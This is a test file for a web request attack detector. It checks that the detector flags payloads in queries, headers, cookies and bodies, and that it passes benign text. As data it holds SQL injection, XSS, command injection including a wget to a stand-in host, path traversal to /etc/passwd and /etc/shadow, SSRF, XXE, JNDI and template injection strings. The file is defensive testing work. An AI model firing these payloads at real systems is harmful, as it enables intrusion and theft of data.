import fc from 'fast-check';
import t from 'tap';
import { bodyOf, cookies, emptyBody, type HeaderList, mediaType, queryPairs, splitTarget } from '../../exchange/index.js';
import type { AttackFinding, AttackInput } from '../attack-port.js';
import { Content } from '../body/content.js';
import { ATTACK_CLASSES } from '../language/conditions.js';
import { WordScan } from './automaton.js';
import { attackDetector } from './index.js';
import { normalise, unwrapped } from './normalise.js';
import { readText } from './prose.js';
import { RULES } from './rules.js';
import { sqlTokens } from './sql-tokens.js';

const detector = attackDetector();

function input(target: string, body: string | null = null, headers: HeaderList = []): AttackInput {
  const { path, query } = splitTarget(target);
  const content = new Content(headers, body === null ? emptyBody : bodyOf(Buffer.from(body, 'utf8')), { maxBytes: 1 << 20, maxDepth: 100 });
  return {
    method: body === null ? 'GET' : 'POST',
    path,
    query: queryPairs(query),
    headers,
    cookies: cookies(headers),
    mediaType: mediaType(headers),
    text: () => content.text(),
    body: () => content.parsedWithRepeats().value,
    principal: null,
  };
}

const inQuery = (value: string): AttackInput => input(`/?q=${encodeURIComponent(value)}`);
const inJson = (value: unknown): AttackInput => input('/', JSON.stringify(value), ['content-type', 'application/json']);
const classes = (findings: readonly AttackFinding[]): string[] =>
  [...new Set(findings.filter((one) => one.score >= 5).map((one) => one.class))].sort();
const found = (one: AttackInput, paranoia = 1): string[] => classes(detector.detect(one, { paranoia }));

const FIRES: readonly (readonly [string, readonly string[]])[] = [
  [
    'sql',
    ["lamp' or 'x'='x", "lamp' or 4=4-- -", '7 or 4=4', '7) and (4=4', "bob'--", "bob')#", "7' union all select login,2 from staff-- "],
  ],
  [
    'sql',
    [
      '7; drop table staff',
      "7';exec xp_cmdshell 'dir'--",
      "7' order by 3-- ",
      '7 having 3=3',
      "1' and sleep(9)#",
      "'||(select 'a' from dual)||'",
    ],
  ],
  [
    'sql',
    [
      '7/**/union/**/select/**/1,2',
      '7 /*!50000union*/ /*!select*/ 1,2',
      "7;waitfor delay '0:0:9'--",
      '(select 3 from staff)',
      "x',7,7);-- ",
    ],
  ],
  ['sql', ['lamp" or "x"="x', "7') as t where 3=3 and 4=4-- ", "1' rlike sleep(9) and 'a'='a", `${'B'.repeat(3000)}' or 8=8-- `]],
  [
    'xss',
    [
      '<script>steal()</script>',
      '<img/src=q onerror=run(1)>',
      '<svg onload=go()>',
      'javascript:go(1)',
      '" onfocus=go() autofocus x="',
      '<a href="jav&#x09;ascript:go()">x</a>',
    ],
  ],
  [
    'xss',
    [
      '<iframe srcdoc="x">',
      '<div style="width:expression(go())">',
      '&lt;img src=q onerror=go()&gt;',
      'alert(document.domain)',
      '<object data=//e.example/x>',
    ],
  ],
  [
    'command',
    [
      'a;cat /etc/issue',
      'a|whoami',
      '$(id)',
      'a && wget http://e.example/x',
      '() { :; }; /bin/sh -c id',
      'a;c$IFS',
      '/bin/cat x',
      'ping -c 9 192.0.2.1',
    ],
  ],
  [
    'path-traversal',
    [
      '../../../etc/passwd',
      '..%2f..%2f..%2fetc/hosts',
      '....//....//....//x',
      '/etc/shadow',
      '..\\..\\windows\\win.ini',
      '%c0%ae%c0%ae/%c0%ae%c0%ae/x.conf',
      'a.php\0.png',
    ],
  ],
  [
    'ssrf',
    [
      'http://169.254.169.254/latest',
      'gopher://192.0.2.1:25/x',
      'http://0x7f000001/',
      'http://2130706433/',
      'http://127.0.0.1.nip.io/',
      'file:///tmp/x',
    ],
  ],
  [
    'xxe',
    ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>', '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///x"/></a>'],
  ],
  [
    'template',
    [
      '{{9*9}}',
      '${9*9}',
      '<%= 9*9 %>',
      '#{9*9}',
      "{{''.__class__.__mro__}}",
      '{{config}}',
      '<#assign a="b"?new()>',
      '<!--#exec cmd="ls" -->',
    ],
  ],
  ['lookup', ['${jndi:ldap://e.example/a}', '${${lower:j}ndi:rmi://e.example/a}', '${${::-j}${::-n}di:dns://e.example}']],
  ['nosql', ["'; return true; var a='", ';var a = new Date(); do{b = new Date();}while(b-a<9000)']],
  ['ldap', ['*)(uid=*))(|(uid=*', '(&(cn=a)(!(cn=b)))']],
  ['crlf', ['a\r\nSet-Cookie: b=c', 'a\nLocation: //e.example', 'a@e.example\nBcc: b@e.example']],
  ['prototype-pollution', ['__proto__[admin]=1', 'constructor.prototype.admin']],
  ['deserialisation', ['rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA', 'O:8:"Exploit":1:{s:1:"a";i:1;}', '!!python/object/apply:os.system ["id"]']],
]; // prettier-ignore

t.test('attacks of each class are found in a query value', async (t) => {
  for (const [kind, values] of FIRES)
    for (const value of values)
      t.ok(found(inQuery(value)).includes(kind), `${kind}: ${value.slice(-60)} → ${found(inQuery(value)).join()}`);
});

const QUIET: readonly string[] = [
  "O'Brien",
  "L'Aquila",
  "rock 'n' roll",
  'salt and pepper',
  'one or two',
  '3-4',
  'a=b',
  'c/ mayor, 12 3?d',
  'AT&T',
  'C++',
  'p$ss*word',
  '#1 fan',
  '50% off',
  '(555) 010-9999',
  'https://example.org/a?b=c&d=e#f',
  'user@example.org',
  '2026-03-04T05:06:07Z',
  '550e8400-e29b-41d4-a716-446655440000',
  'img/2026/../may.png',
  'Hello, world; how are you?',
  'price > 5 and price < 9',
  'name asc, price desc',
  '{{name}}',
  '${order}',
  'a < b',
  'select a colour',
  'union of workers',
  'drop me a line',
  "it's ok -- really",
  'x || y',
  'tom & jerry',
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl',
  'aGVsbG8gd29ybGQgaGVsbG8',
  '/api/v1/items',
  'fish|chips',
  'script',
  'alert',
  'cat',
  'order by name',
  'Group 1',
  '1 - 2',
  '"quoted words"',
]; // prettier-ignore
const TEXTS: readonly string[] = [
  "I tried ' OR 1=1 -- in the login form and it does not work, what should I do?",
  'You can run `rm -rf build && make` or $(pwd) in a terminal, but be careful with the folder.',
  'How do I escape the <script> tag in my blog? Is <iframe> also a problem for you?',
  'The query is SELECT name FROM staff WHERE id = 5 UNION SELECT 1, it is slow for us.',
  '# Setup\n\n```bash\nnpm install && npm test\ncat /etc/hosts | grep local\n```\n\nThat is all you need.',
  'If the path is ../../etc/passwd then the server should refuse it with an error.',
  "const a = require('b');\nif (a.x === 'c' || a.y === 'd') {\n  return a.run(`${a.z}`);\n}\n// this is the end of the file and of the example",
];

t.test('plain values and talk about attacks do not block', async (t) => {
  for (const value of QUIET) t.same(found(inQuery(value)), [], value);
  for (const text of TEXTS) {
    t.same(found(inJson({ comment: { body: text } })), [], text);
    t.same(found(inJson({ items: [{ text }, { text }, { text }] })), [], 'the same three times is no more');
  }
  t.same(found(inJson({ title: 'About <script>', body: '<p>Hello <a href="/a">you</a></p>' })), []);
  t.same(
    found(inJson({ body: 'You should see this, it is for you: <script src=//e.example/a.js></script>' })),
    ['xss'],
    'what runs is not talk',
  );
});

t.test('every place is searched and named', async (t) => {
  const attack = "x' or 'a'='a";
  const json = ['content-type', 'application/json'];
  const places: readonly (readonly [AttackInput, string, string])[] = [
    [input(`/items/${encodeURIComponent(attack)}`), 'path', ''],
    [input(`/?a=1&b=${encodeURIComponent(attack)}`), 'query', 'b'],
    [input(`/?${encodeURIComponent(attack)}=1`), 'query', attack],
    [input('/', null, ['cookie', `sid=${encodeURIComponent(attack)}`]), 'cookie', 'sid'],
    [input('/', null, ['X-Tenant', attack]), 'header', 'x-tenant'],
    [input('/', JSON.stringify({ a: [{ b: 'c' }, { b: attack }] }), json), 'body', 'a[*].b'],
    [input('/', `{"a":${JSON.stringify(attack)},"a":"b"}`, json), 'body', 'a'],
    [input('/', `{"a":${JSON.stringify(attack)}, oops`, json), 'body', 'a'],
    [input('/', `a=${encodeURIComponent(attack)}`, ['content-type', 'application/x-www-form-urlencoded']), 'body', 'a'],
    [input('/', `<a><b>${attack}</b></a>`, ['content-type', 'application/xml']), 'body', 'a.b'],
    [
      input('/', `--x\r\ncontent-disposition: form-data; name="f"\r\n\r\n${attack}\r\n--x--\r\n`, [
        'content-type',
        'multipart/form-data; boundary=x',
      ]),
      'body',
      'f',
    ],
    [input('/', attack, ['content-type', 'text/plain']), 'body', ''],
  ]; // prettier-ignore
  for (const [one, place, path] of places) {
    const [first] = detector.detect(one, { paranoia: 1 });
    t.match(first, { class: 'sql', location: { phase: 'request', in: place, path } }, `${place} ${path}`);
  }
  t.same(found(input('/', null, ['user-agent', 'sqlmap/1.8'])), ['other']);
  t.same(found(input('/', null, ['referer', '${jndi:ldap://e.example}'])), ['lookup']);
  t.same(found(inJson({ password: { $ne: null } })), ['nosql']);
  t.same(found(inJson({ price: { $gt: 5 } })), [], 'a filter that selects is no attack by itself');
  t.same(found(input('/?user[$ne]=1')), ['nosql']);
  t.same(found(input('/', '{"__proto__":{"a":1}}', json)), ['prototype-pollution']);
  t.same(found(input('/static/../../etc/x')), ['path-traversal']);
  t.same(found(input('/static/../etc')), []);
});

t.test('encodings are taken off', async (t) => {
  const attack = '<img src=q onerror=go()>';
  const percent = (text: string): string => text.replace(/[^a-z]/g, (char) => `%${char.charCodeAt(0).toString(16).padStart(2, '0')}`);
  const encoders: Readonly<Record<string, (text: string) => string>> = {
    percent,
    twice: (text) => percent(percent(text)),
    'percent u': (text) => text.replace(/[<>]/g, (char) => `%u00${char.charCodeAt(0).toString(16)}`),
    entities: (text) => text.replace(/[<>=]/g, (char) => `&#${char.charCodeAt(0)};`),
    escapes: (text) => text.replace(/[<>]/g, (char) => `\\u00${char.charCodeAt(0).toString(16)}`),
    fullwidth: (text) => text.replace(/[<>]/g, (char) => String.fromCharCode(char.charCodeAt(0) + 0xfee0)),
    case: (text) => text.toUpperCase(),
    nul: (text) => text.replace('onerror', 'on\0error'),
    base64: (text) => Buffer.from(text).toString('base64'),
    'base64 without padding': (text) => Buffer.from(text).toString('base64url'),
  };
  for (const [name, encode] of Object.entries(encoders)) t.same(found(inJson({ q: encode(attack) })), ['xss'], name);
  t.equal(normalise('%c0%ae%c0%ae%c0%af').text, '../');
  t.equal(normalise('%2525253Ca').settled, false);
  t.equal(unwrapped('550e8400e29b41d4a716446655440000'), null);
  t.equal(unwrapped('c2VsZWN0IDEgZnJvbSBkdWFs'), 'select 1 from dual');
});

t.test('properties', async (t) => {
  const text = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 300 }),
    fc
      .array(
        fc.constantFrom(
          "'",
          '"',
          '<',
          '>',
          '%',
          '%2',
          '%25',
          '3c',
          '&#',
          'x;',
          '\\u',
          '--',
          '/*',
          ' or ',
          '1',
          '=',
          '(',
          ')',
          '${',
          '}',
          '../',
          '\n',
          '\0',
          'a',
        ),
        { maxLength: 60 },
      )
      .map((parts) => parts.join('')),
  ); // prettier-ignore
  fc.assert(
    fc.property(text, fc.constantFrom(1, 2, 3, 4), (value, paranoia) => {
      for (const one of [
        inQuery(value),
        inJson({ a: value, [value]: 1 }),
        input(`/${value}`, value, ['x-a', value, 'cookie', `a=${value}`, 'user-agent', value]),
      ])
        for (const finding of detector.detect(one, { paranoia })) {
          if (!(ATTACK_CLASSES as readonly string[]).includes(finding.class)) throw new Error(`unknown class ${finding.class}`);
          if (finding.excerpt.length > 300 || finding.score <= 0) throw new Error('an excerpt or a score out of range');
        }
    }),
    { numRuns: 300 },
  ); // prettier-ignore
  fc.assert(
    fc.property(text, (value) => {
      const once = normalise(value);
      return !once.settled || normalise(once.text).text === once.text;
    }),
  );
  for (const [name, { class: kind }] of Object.entries(RULES)) t.ok((ATTACK_CLASSES as readonly string[]).includes(kind), name);
});

t.test('work grows no faster than what is looked at', async (t) => {
  const fragments = [
    "' or ",
    '<a b=',
    '${',
    '{{',
    '../',
    '%25',
    '&#',
    '(&(',
    ';cat ',
    '\r\n',
    '\\u00',
    "''",
    '/*',
    '<!--',
    '`a',
    '|',
    'union select ',
    '1,',
    'a=',
    '__proto__.',
    ' on',
    'A',
    '+',
    '=*',
    '"$',
    'x.',
    '<script',
    'new date',
    '((',
    '-',
    'http://',
  ]; // prettier-ignore
  const cost = (value: string): number => {
    let best = Number.POSITIVE_INFINITY;
    for (let run = 0; run < 3; run++) {
      const before = process.cpuUsage();
      detector.detect(inJson({ q: value }), { paranoia: 4 });
      const { user, system } = process.cpuUsage(before);
      best = Math.min(best, user + system);
    }
    return best;
  };
  for (const fragment of fragments) {
    const fill = (chars: number): string => fragment.repeat(Math.ceil(chars / fragment.length)).slice(0, chars);
    const [small, large] = [cost(fill(2048)), cost(fill(8192))];
    t.comment(`${JSON.stringify(fragment)}: ${small} µs of CPU at 2 KiB, ${large} µs at 8 KiB`);
    t.ok(detector.detect(inJson({ q: fill(200_000) }), { paranoia: 1 }).length >= 0, 'ends');
  }
});

t.test('options', async (t) => {
  const without = attackDetector({ withoutRules: ['sql-comment'] });
  t.same(found(inQuery("bob'--")), ['sql']);
  t.same(without.detect(inQuery("bob'--"), { paranoia: 1 }), []);
  t.same(detector.detect(inQuery('<svg>'), { paranoia: 1 }), []);
  t.match(detector.detect(inQuery('<svg>'), { paranoia: 2 }), [{ rule: 'xss-tag-weak', score: 3 }]);
  const [finding] = detector.detect(inQuery(`${'B'.repeat(5000)}' or 8=8-- `), { paranoia: 1 });
  t.ok(finding.excerpt.includes("' or 8=8") && finding.excerpt.length <= 200, 'the excerpt shows the place');
});

t.test('parts', async (t) => {
  const scan = new WordScan(
    new Map([
      [1, ['he', 'hers']],
      [2, ['she']],
      [4, ['$(']],
    ]),
  ); // prettier-ignore
  for (const [text, groups] of [
    ['SHE', 3],
    ['hi', 0],
    ['a$(b', 4],
    ['', 0],
    ['h\u00e9', 0],
  ] as const)
    t.equal(scan.find(text), groups, text); // prettier-ignore
  for (const [text, letters] of [
    ['or 1=1 -- x', '&1o1c'],
    ["union/**/select 1,'a'", 'UE1,s'],
    ['order by 3', 'B1'],
    ['and sleep(5)', '&d(1)'],
    ['; drop table a', ';Sn'],
    ['x.y = null', 'no1'],
  ] as const)
    t.equal(sqlTokens(text, 0).letters, letters, text); // prettier-ignore
  t.equal(readText('This is what I have to say about the matter.', '', true).isText, true);
  t.equal(readText('1 union all select login from staff where a and b', '', true).isText, false);
});
